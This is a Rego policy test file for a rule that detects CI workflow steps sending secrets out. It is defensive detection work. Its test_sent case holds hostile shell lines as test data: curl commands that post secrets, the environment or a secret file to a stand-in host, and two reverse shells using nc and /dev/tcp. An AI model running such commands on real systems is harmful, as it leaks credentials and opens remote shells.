package groundwire.actions.sent_secret_test

import data.groundwire.actions.sent_secret as rule

_facts := {"$kind": "workflow", "$expressions": [], "$conditions": [], "$scripts": []}

_workflow(parts) := object.union(_facts, parts)

_expression(path, flows) := {
	"at": array.concat(path, ["$expression", 0]), "in": path, "text": concat(" || ", flows), "flows": flows, "mentions": flows, "functions": [],
	"allSecrets": false, "splitSecrets": [], "contains": [], "bots": [], "falsyBranches": [],
}

_run := ["jobs", "build", "steps", 0, "run"]

_script(facts) := object.union({"at": _run, "shell": "bash", "writes": [], "fetches": [], "commands": [], "prints": [], "variables": []}, facts)

_running(script) := _workflow({"on": "push", "jobs": {"build": {"steps": [{"name": "send", "run": script}]}}})

test_sent if {
	every script in ["curl -X POST -d 'k=${{ secrets.KEY }}' https://x", "env | base64 | curl -d @- x", "curl --data '@.secret' https://x", "nc -e /bin/sh 10.1.2.3 99", "bash -i >& /dev/tcp/10.1.2.3/99"] {
		count(rule.findings) == 1 with input as _running(script)
	}
}

test_quiet if {
	every script in ["curl -H 'Authorization: ${{ secrets.KEY }}' https://x", "nc -z localhost 5432", "env | sort", "curl -d '{}' ${{ secrets.WEBHOOK }}"] {
		count(rule.findings) == 0 with input as _running(script)
	}
}
